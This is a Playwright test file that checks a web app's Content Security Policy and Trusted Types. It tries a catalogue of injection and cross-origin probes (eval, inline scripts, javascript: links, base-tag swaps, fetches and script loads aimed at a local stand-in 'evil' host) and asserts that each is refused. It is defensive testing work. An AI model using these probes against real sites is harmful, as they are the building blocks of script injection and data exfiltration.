/** What an intruder's code would try is refused in the page and in the worker, and the app itself never breaks a rule. */
import type { Page, Worker } from '@playwright/test';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { everyScreen } from './every-screen';
import * as girl from './girl';
import type { GoalOutcome } from './goal';
import { browserGoal, inBrowser, type BrowserGoalOptions } from './real-browser';

/** One attempt each, as the body of an async function; `evil` is another origin, `intruded` notes code that ran. */
type Attempts = Readonly<Record<string, string>>;
type Outcomes = Readonly<Record<string, string>>;

/** Reaching another origin, and running code that is not the app's. */
const IN_PAGE: Attempts = {
	fetch: `await fetch(evil + 'fetch', { mode: 'no-cors' })`,
	'XMLHttpRequest': `await settled(Object.assign(new XMLHttpRequest(), { begin(x) { x.open('GET', evil + 'xhr'); x.send(); } }))`,
	WebSocket: `await settled(new WebSocket(evil.replace('http', 'ws')), 'open')`,
	EventSource: `await settled(new EventSource(evil + 'events'), 'open')`,
	'image of another origin': `await settled(Object.assign(new Image(), { src: evil + 'a.png' }))`,
	'style sheet of another origin': `await settled(put('link', { rel: 'stylesheet', href: evil + 'a.css' }))`,
	'font of another origin': `await settled(put('link', { rel: 'preload', as: 'font', crossOrigin: 'anonymous', href: evil + 'a.woff' }))`,
	'sound of another origin': `await settled(Object.assign(document.createElement('audio'), { src: evil + 'a.wav' }), 'loadeddata')`,
	'frame of another origin': `const told = settled(self, 'message'); put('iframe', { src: evil + 'frame' }); await told`,
	'object of another origin': `await settled(put('object', { data: evil + 'a.png', type: 'image/png' }))`,
	'script of another origin': `await settled(put('script', { src: evil + 'a.js' }))`,
	'module of another origin': `await import(evil + 'a.mjs')`,
	'worker from a blob': `await settled(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))), 'message')`,
	'worker from a data address': `await settled(new Worker('data:text/javascript,postMessage(1)'), 'message')`,
	'inline script': `const s = document.createElement('script'); s.append('intruded = 1'); document.body.append(s); ran()`,
	'inline handler': `document.body.setAttribute('onclick', 'intruded = 1'); document.body.click(); ran()`,
	'inline style sheet': `put('style', { textContent: 'body { outline-color: rgb(1, 2, 3) }' }); if (getComputedStyle(document.body).outlineColor !== 'rgb(1, 2, 3)') throw 0`,
	'script in an address': `const a = put('a', { href: 'javascript:void(intruded = 1)' }); a.click(); await later(); ran()`,
	eval: `eval('intruded = 1'); ran()`,
	Function: `new Function('intruded = 1')(); ran()`,
	'text for a timer': `setTimeout('intruded = 1'); await later(); ran()`,
	'another base': `put('base', { href: evil }); const moved = document.baseURI.startsWith(evil); document.querySelector('base').remove(); if (!moved) throw 0`,
	'WebAssembly in the page': `await WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))`
};

const IN_WORKER: Attempts = {
	fetch: `await fetch(evil + 'worker-fetch', { mode: 'no-cors' })`,
	'fetch of the own origin': `await fetch('/en/')`,
	XMLHttpRequest: IN_PAGE.XMLHttpRequest!,
	WebSocket: IN_PAGE.WebSocket!,
	EventSource: IN_PAGE.EventSource!,
	'script of another origin': `importScripts(evil + 'a.js')`,
	'module of another origin': `await import(evil + 'a.mjs')`,
	'worker from a blob': IN_PAGE['worker from a blob']!,
	eval: IN_PAGE.eval!,
	Function: IN_PAGE.Function!,
	'text for a timer': IN_PAGE['text for a timer']!
};

/** Plain text where only typed values may go. */
const UNTYPED: Attempts = {
	innerHTML: `document.createElement('div').innerHTML = '<b>x</b>'`,
	outerHTML: `put('i', {}).outerHTML = '<b>x</b>'`,
	insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`,
	setHTMLUnsafe: `document.createElement('div').setHTMLUnsafe('<b>x</b>')`,
	'document.write': `document.implementation.createHTMLDocument('').write('<b>x</b>')`,
	srcdoc: `document.createElement('iframe').srcdoc = '<b>x</b>'`,
	DOMParser: `new DOMParser().parseFromString('<b>x</b>', 'text/html')`,
	'contextual fragment': `document.createRange().createContextualFragment('<b>x</b>')`,
	'script.src': `document.createElement('script').src = '/early.js'`,
	'script.text': `document.createElement('script').text = 'void 0'`,
	'script.textContent': `document.createElement('script').textContent = 'void 0'`,
	'handler attribute': `document.createElement('p').setAttribute('onclick', 'void 0')`,
	eval: `eval('1')`,
	Function: `new Function('return 1')`,
	'timer text': `clearTimeout(setTimeout('void 0', 1e6))`,
	Worker: `new Worker('/service-worker.js').terminate()`,
	'a policy of its own': `self.trustedTypes.createPolicy('intruder', {})`,
	'a default policy': `self.trustedTypes.createPolicy('default', {})`
};

const UNTYPED_IN_WORKER: Attempts = {
	eval: UNTYPED.eval!,
	Function: UNTYPED.Function!,
	'timer text': UNTYPED['timer text']!,
	importScripts: `importScripts('/service-worker.js')`,
	Worker: UNTYPED.Worker!,
	'a policy of its own': UNTYPED['a policy of its own']!,
	'a default policy': UNTYPED['a default policy']!,
	'the app’s policy': `self.trustedTypes.createPolicy('app-worker', {})`
};

export const goal = browserGoal(async (options) => {
	const evil = await otherOrigin();
	const plain = await otherOrigin();
	try {
		const tried = await inBrowser(join(options.scratch, 'intruder'), (page) => intrusions(page, options, evil.address));
		const heard = evil.heard();
		// What is refused must be able to succeed where there is no policy.
		const free = await inBrowser(join(options.scratch, 'control'), (page) => withoutPolicy(page, plain.address, evil.address));
		const use = await inBrowser(join(options.scratch, 'use'), (page) => normalUse(page, options));
		return [...outcomes(tried, free, heard), ...inUse(use)];
	} finally {
		evil.close();
		plain.close();
	}
});

interface Tried {
	readonly page: Outcomes;
	readonly worker: Outcomes;
	readonly untyped: Outcomes;
	readonly untypedInWorker: Outcomes;
	/** The vault's worker can compile its key derivation. */
	readonly compiles: boolean;
	/** Violations that the recorder heard of meanwhile, from page and from worker. */
	readonly noted: readonly string[];
}

async function intrusions(page: Page, { address }: BrowserGoalOptions, evil: string): Promise<Tried> {
	const noted = await noteViolations(page);
	const started = page.waitForEvent('worker');
	await girl.open(page, address);
	const worker = await started;
	const inPage = await tried(page, IN_PAGE, evil);
	const untyped = await tried(page, UNTYPED, evil);
	const inWorker = await tried(worker, IN_WORKER, evil);
	const untypedInWorker = await tried(worker, UNTYPED_IN_WORKER, evil);
	const compiles = await tried(worker, { wasm: IN_PAGE['WebAssembly in the page']! }, evil);
	// The pages that hold nothing of hers stand under the same policy.
	const elsewhere: Record<string, string> = {};
	for (const path of ['/en/calm/', '/no/such/page']) {
		await page.goto(address + path);
		for (const [name, outcome] of Object.entries(await tried(page, IN_PAGE, evil))) elsewhere[`${name} on ${path}`] = outcome;
	}
	return { page: { ...inPage, ...elsewhere }, worker: inWorker, untyped, untypedInWorker, compiles: compiles.wasm === 'allowed', noted };
}

type Free = Omit<Tried, 'compiles' | 'noted'>;

async function withoutPolicy(page: Page, plain: string, evil: string): Promise<Free> {
	await page.goto(`${plain}frame`);
	const started = page.waitForEvent('worker');
	await page.evaluate(`void (self.kept = new Worker('/a.js'))`);
	const worker = await started;
	return {
		page: await tried(page, IN_PAGE, evil),
		worker: await tried(worker, IN_WORKER, evil),
		untyped: await tried(page, UNTYPED, evil),
		untypedInWorker: await tried(worker, UNTYPED_IN_WORKER, evil)
	};
}

async function normalUse(page: Page, options: BrowserGoalOptions): Promise<readonly string[]> {
	const noted = await noteViolations(page);
	await everyScreen(page, options);
	return noted;
}

/** Runs every attempt; `allowed`, or how it was refused. */
async function tried(where: Page | Worker, attempts: Attempts, evil: string): Promise<Outcomes> {
	const bodies = Object.entries(attempts).map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`);
	return JSON.parse(
		String(
			await (where as Page).evaluate(`(async () => {
	// The debugger's own evaluation may use eval; what runs in a later task may not.
	await new Promise((done) => setTimeout(done));
	const evil = ${JSON.stringify(evil)};
	self.intruded = undefined;
	const ran = () => { const did = self.intruded; self.intruded = undefined; if (did === undefined) throw new Error('did not run'); };
	const later = () => new Promise((done) => setTimeout(done, 100));
	const put = (tag, properties) => { const node = Object.assign(document.createElement(tag), properties); document.body.append(node); return node; };
	const settled = (target, event = 'load') => new Promise((done, failed) => {
		target.addEventListener(event, done);
		target.addEventListener('error', () => failed(new Error('refused')));
		setTimeout(() => failed(new Error('silent')), 3000);
		if (target.begin) target.begin(target);
	});
	const attempts = { ${bodies.join(',\n')} };
	const outcomes = {};
	for (const name of Object.keys(attempts)) {
		try { await attempts[name](); outcomes[name] = 'allowed'; }
		catch (error) { outcomes[name] = error instanceof Error ? error.name : 'refused'; }
	}
	return JSON.stringify(outcomes);
})()`)
		)
	) as Outcomes;
}

const REPORT_IN_WORKER = `self.addEventListener('securitypolicyviolation', (event) => console.error('worker: ' + event.effectiveDirective + ' ' + event.blockedURI))`;

/** Every violation in pages and workers from now on, as the browser reports and prints them. */
async function noteViolations(page: Page): Promise<readonly string[]> {
	const noted: string[] = [];
	await page.exposeFunction('noteViolation', (what: string) => void noted.push(what));
	await page.addInitScript(`document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => noteViolation('page: ' + effectiveDirective + ' ' + blockedURI))`);
	page.on('console', (message) => {
		const text = message.text().slice(0, 160);
		if (text.startsWith('worker: ')) noted.push(text);
		else if (/Content Security Policy|Trusted ?(Type|Script|HTML)|Refused to/i.test(text)) noted.push(`console: ${text}`);
	});
	// What is refused in a worker is told to that worker alone.
	page.on('worker', (worker) => void worker.evaluate(REPORT_IN_WORKER).catch(() => undefined));
	return noted;
}

function outcomes(done: Tried, free: Free, heard: readonly string[]): readonly GoalOutcome[] {
	const allowed = [...allowedIn(done.page, 'page'), ...allowedIn(done.worker, 'worker')];
	const untyped = [...allowedIn(done.untyped, 'page'), ...allowedIn(done.untypedInWorker, 'worker')];
	const dull = [...refusedIn(free.page), ...refusedIn(free.worker)];
	const dullUntyped = [...refusedIn(free.untyped), ...refusedIn(free.untypedInWorker)];
	const attempts = Object.keys(done.page).length + Object.keys(done.worker).length;
	const typed = Object.keys(done.untyped).length + Object.keys(done.untypedInWorker).length;
	return [
		{
			goal: 'G14',
			title: 'foreign code and foreign addresses are refused in the page and in the worker',
			figure:
				`${attempts} attempts in three pages and the worker, ${allowed.length} allowed${listed(allowed)}; the other origin heard ${heard.length}` +
				`${listed(heard)}; the worker ${done.compiles ? 'may' : 'MAY NOT'} compile its key derivation; without a policy ${dull.length} fail${listed(dull)}`,
			passed: allowed.length + heard.length + dull.length === 0 && done.compiles && ['page', 'worker'].every((from) => done.noted.some((what) => what.startsWith(from)))
		},
		{
			goal: 'G15',
			title: 'Trusted Types are enforced in the page and in the worker',
			figure: `${typed} untyped values, ${untyped.length} taken${listed(untyped)}; without a policy ${dullUntyped.length} refused${listed(dullUntyped)}`,
			passed: untyped.length + dullUntyped.length === 0
		}
	];
}

function inUse(noted: readonly string[]): readonly GoalOutcome[] {
	const untyped = noted.filter((what) => /trusted/i.test(what));
	const others = noted.filter((what) => !untyped.includes(what));
	const title = 'is never broken by the app itself';
	const figure = (what: readonly string[]) => `${what.length} violations through every screen${listed(what)}`;
	return [
		{ goal: 'G14', title: `the policy ${title}`, figure: figure(others), passed: others.length === 0 },
		{ goal: 'G15', title: `the demand for typed values ${title}`, figure: figure(untyped), passed: untyped.length === 0 }
	];
}

function allowedIn(tried: Outcomes, where: string): readonly string[] {
	return Object.entries(tried).flatMap(([name, outcome]) => (outcome === 'allowed' ? [`${name} in the ${where}`] : []));
}

function refusedIn(tried: Outcomes): readonly string[] {
	return Object.entries(tried).flatMap(([name, outcome]) => (outcome === 'allowed' ? [] : [`${name}: ${outcome}`]));
}

function listed(what: readonly string[]): string {
	return what.length === 0 ? '' : ` (${[...new Set(what)].slice(0, 5).join('; ')})`;
}

/** A host that lets everybody have everything, and remembers who asked. */
async function otherOrigin() {
	const heard: string[] = [];
	const bodies: Readonly<Record<string, readonly [type: string, body: string | Buffer]>> = {
		'/a.png': ['image/png', Buffer.from(PIXEL, 'base64')],
		'/a.css': ['text/css', 'body { color: red }'],
		'/a.wav': ['audio/wav', silence()],
		'/a.js': ['text/javascript', 'self.postMessage && self.importScripts && postMessage(1)'],
		'/a.mjs': ['text/javascript', 'export default 1'],
		'/events': ['text/event-stream', 'data: 1\n\n'],
		'/service-worker.js': ['text/javascript', '']
	};
	const server = createServer((request, response) => {
		heard.push(request.url ?? '');
		const [type, body] = bodies[request.url ?? ''] ?? ['text/html', '<!doctype html><html lang="en"><title>x</title><body><script>parent.postMessage(1, "*")</script>'];
		response.setHeader('Content-Type', type);
		response.setHeader('Access-Control-Allow-Origin', '*');
		response.setHeader('Cross-Origin-Resource-Policy', 'cross-origin');
		response.setHeader('Cross-Origin-Embedder-Policy', 'require-corp');
		response.end(body);
	});
	server.on('upgrade', (request, socket) => {
		heard.push(`upgrade ${request.url}`);
		socket.end(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${acceptance(String(request.headers['sec-websocket-key']))}\r\n\r\n`);
	});
	await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
	const close = () => {
		server.close();
		server.closeAllConnections();
	};
	return { address: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, heard: () => [...heard], close };
}

/** How a host agrees to a WebSocket (RFC 6455). */
function acceptance(key: string): string {
	return createHash('sha1').update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
}

/** A hundredth of a second of nothing, as a WAV file. */
function silence(): Buffer {
	const samples = 80;
	const file = Buffer.alloc(44 + samples, 128);
	file.write('RIFF', 0);
	file.writeUInt32LE(36 + samples, 4);
	file.write('WAVEfmt ', 8);
	file.writeUInt32LE(16, 16);
	file.writeUInt16LE(1, 20);
	file.writeUInt16LE(1, 22);
	file.writeUInt32LE(8_000, 24);
	file.writeUInt32LE(8_000, 28);
	file.writeUInt16LE(1, 32);
	file.writeUInt16LE(8, 34);
	file.write('data', 36);
	file.writeUInt32LE(samples, 40);
	return file;
}

const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
